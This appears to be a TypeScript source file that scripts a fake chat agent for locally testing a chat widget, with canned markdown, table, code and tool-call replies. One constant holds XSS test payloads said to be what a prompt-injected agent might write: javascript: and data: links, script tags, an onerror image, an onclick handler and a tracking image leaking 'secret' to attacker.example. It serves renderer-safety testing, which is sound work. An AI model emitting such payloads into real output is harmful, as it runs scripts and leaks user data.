import { mentionedTools } from './script.js';
import type { ScriptContext, ScriptRule, ToolResult } from './types.js';

/**
 * When no rule matched and the last user message names tools the request offers, call them
 * (with arguments generated from their schemas), as an agent would.
 */
export const callMentionedTools: ScriptRule = {
  match: (ctx) => ctx.phase === 'user' && mentionedTools(ctx.text, ctx.tools).length > 0,
  reply: (ctx) => {
    const names = mentionedTools(ctx.text, ctx.tools);
    return names.length > 1 ? 'Let me check a couple of things first.' : '';
  },
  toolCalls: (ctx) => mentionedTools(ctx.text, ctx.tools).map((name) => ({ name })),
};

/** Answers tool results by quoting each one verbatim, so a test can see the round trip. */
export const summariseToolResults: ScriptRule = {
  match: (ctx) => ctx.phase === 'tool-results',
  reply: (ctx) => {
    const parts = ctx.toolResults.map((result) => describeResult(result));
    const lead = ctx.toolResults.length > 1 ? 'Here is what the tools returned:' : 'Here is what I found:';
    return `${lead}\n\n${parts.join('\n\n')}\n\nAnything else you would like me to look up?`;
  },
};

/** The answer when nothing else matched: friendly, in markdown, quoting what the user said. */
export const echoReply: ScriptRule = {
  match: () => true,
  reply: (ctx) => (ctx.turn <= 1 ? welcome(ctx) : echo(ctx)),
};

/** The built-in tail every script gets: tool calls by name, tool-result summaries, the echo. */
export const FALLBACK_RULES: readonly ScriptRule[] = [callMentionedTools, summariseToolResults, echoReply];

function describeResult(result: ToolResult): string {
  const title = result.name === undefined ? 'Tool result' : `\`${result.name}\``;
  const language = looksLikeJson(result.content) ? 'json' : 'text';
  const fence = '`'.repeat(Math.max(3, longestBacktickRun(result.content) + 1));
  return `**${title}**\n\n${fence}${language}\n${result.content}\n${fence}`;
}

function looksLikeJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

function longestBacktickRun(text: string): number {
  return Math.max(0, ...(text.match(/`+/g) ?? []).map((run) => run.length));
}

function userName(ctx: ScriptContext): string | undefined {
  const { name, userName: camel, user_name: snake } = ctx.variables;
  const found = [name, camel, snake].find((value) => typeof value === 'string' && value.trim() !== '');
  return typeof found === 'string' ? found.trim() : undefined;
}

function quote(text: string): string {
  const trimmed = text.trim();
  if (trimmed === '') return '> *(an empty message)*';
  return trimmed
    .split('\n')
    .map((line) => `> ${line}`)
    .join('\n');
}

function welcome(ctx: ScriptContext): string {
  const name = userName(ctx);
  return [
    `## Hello${name === undefined ? '' : `, ${name}`}! 👋`,
    '',
    'Thanks for your message. You wrote:',
    '',
    quote(ctx.text),
    '',
    "I'm a **stand-in for a Pathors agent**, running locally so you can try the chat without an account. Ask me for:",
    '',
    '- a **table**, some **code**, a **list**, or the full **markdown** tour',
    '- a **long** answer, to watch it stream (and stop it halfway)',
    ctx.tools.length > 0
      ? `- a tool call: name ${ctx.tools.length > 1 ? 'one of ' : ''}\`${ctx.tools.map((tool) => tool.function.name).join('`, `')}\` and I will call it`
      : '- a tool call, once the page registers tools',
    '',
    '*What would you like to see?*',
  ].join('\n');
}

function echo(ctx: ScriptContext): string {
  return [
    `You said:`,
    '',
    quote(ctx.text),
    '',
    `That is message **#${ctx.turn}** in this conversation; I remember the earlier ones. Try *table*, *code*, *list* or *markdown* for a richer reply.`,
  ].join('\n');
}

const TABLE_REPLY = `### Plans compared

| Plan | Messages / month | Tools | Price |
|:-----|-----------------:|:-----:|------:|
| Free | 1,000 | — | $0 |
| Team | 50,000 | ✓ | $49 |
| Enterprise | unlimited | ✓ | [contact us](https://pathors.com) |

*Prices are made up: this is the fake upstream.*`;

const CODE_REPLY = `Here is how to embed the widget:

\`\`\`html
<script type="module" src="/pathors-chat.js"></script>
<pathors-chat proxy-url="/api/chat"></pathors-chat>
\`\`\`

And a small TypeScript helper, for good measure:

\`\`\`ts
export function debounce<A extends unknown[]>(fn: (...args: A) => void, ms: number) {
  let timer: ReturnType<typeof setTimeout> | undefined;
  return (...args: A) => {
    clearTimeout(timer);
    timer = setTimeout(() => fn(...args), ms);
  };
}
\`\`\`

Both blocks name their language, so they can be highlighted.`;

const LIST_REPLY = `## Getting started

1. **Install** the package
   - with npm: \`npm install pathors-chat\`
   - or load the script tag from your CDN
2. **Run the proxy** on your server
   1. give it your **API key** and **project ID**
   2. allow your site's origin
3. **Add the element** to your page

- [ ] Try it on a staging site
- [x] Read the docs`;

const MARKDOWN_REPLY = `# Markdown tour

## Emphasis
Text can be **bold**, *italic*, ***both***, ~~struck~~ or \`inline code\`.
Character references read as what they name: R&amp;D &copy; Acme.

## Links
Read the [Pathors docs](https://docs.pathors.com) or visit <https://pathors.com>.

## Quote
> The best interface is the one you don't notice.
>
> — *someone, probably*

## Lists
- Fruit
  - apples
  - pears
- Vegetables
  1. carrots
  2. leeks

## Code
\`\`\`python
def greet(name: str) -> str:
    return f"Hello, {name}!"
\`\`\`

## Table
| Feature | Status |
|---------|:------:|
| Streaming | ✅ |
| Tools | ✅ |

---
That's everything.`;

const QUOTE_REPLY = `A thought worth keeping:

> Simple things should be simple, complex things should be possible.
>
> — **Alan Kay**

It applies to chat widgets too.`;

const LINKS_REPLY = `### Useful links

- [Pathors](https://pathors.com): the platform
- [API reference](https://docs.pathors.com): completions and sessions
- [MDN: Server-sent events](https://developer.mozilla.org/en-US/docs/Web/API/Server-sent_events)

Need something else? Just *ask*.`;

/**
 * Things an agent could be tricked into writing. A safe renderer shows them inert: no script
 * runs, no link to `javascript:` works, and no image loads from the attacker's host.
 */
const UNSAFE_REPLY = `Here are some things a prompt-injected agent might write. None of them should do anything:

- a [script link](javascript:alert(1)) and a [data link](data:text/html,<script>alert(1)</script>)
- raw HTML: <img src=x onerror="alert(1)"> <script>alert(2)</script>
- a tracking image: ![pixel](https://attacker.example/p.png?leak=secret)
- <a href="https://example.com" onclick="alert(3)">an anchor with a handler</a>

If you saw an alert or a broken image request, the renderer is not safe.`;

function longReply(): string {
  const sections = ['Streaming', 'Scrolling', 'Stopping', 'Resuming', 'Remembering'].map(
    (title, i) =>
      `### ${i + 1}. ${title}\n\nThis paragraph is here to make the reply long enough to watch it arrive piece by piece. ` +
      'A real agent writes at roughly this pace, and the widget should keep the newest text in view ' +
      'unless you have scrolled up to read something earlier. Press **stop** at any point: what was ' +
      'already written stays, and you can ask again.',
  );
  return `## A long answer\n\n${sections.join('\n\n')}\n\n*The end.*`;
}

function variablesReply(ctx: ScriptContext): string {
  const entries = Object.entries(ctx.variables);
  if (entries.length === 0) return 'This session has **no variables** set. The site can set them through the proxy.';
  const rows = entries.map(([key, value]) => `| \`${key}\` | ${JSON.stringify(value).replace(/\|/g, '\\|')} |`);
  return `The site told me this about you:\n\n| Variable | Value |\n|---|---|\n${rows.join('\n')}`;
}

/**
 * The built-in replies, chosen by keyword in the last user message. The default
 * {@link FakeUpstreamOptions.script}; spread it after your own rules to keep it.
 */
export const defaultScript: readonly ScriptRule[] = [
  callMentionedTools,
  { match: /\b(xss|unsafe|inject(ion)?|attack)\b/i, reply: UNSAFE_REPLY },
  { match: /\b(markdown|format(ting)?|everything|showcase|tour)\b/i, reply: MARKDOWN_REPLY },
  { match: /\b(table|compare|pricing|plans?)\b/i, reply: TABLE_REPLY },
  { match: /\b(code|snippet|example|embed|typescript|javascript)\b/i, reply: CODE_REPLY },
  { match: /\b(list|steps|how do i|getting started|setup|install)\b/i, reply: LIST_REPLY },
  { match: /\b(long|story|essay)\b/i, reply: longReply },
  { match: /\b(quote|wisdom)\b/i, reply: QUOTE_REPLY },
  { match: /\b(links?|docs|documentation|help)\b/i, reply: LINKS_REPLY },
  { match: /\b(variables|who am i|my name)\b/i, reply: variablesReply },
];
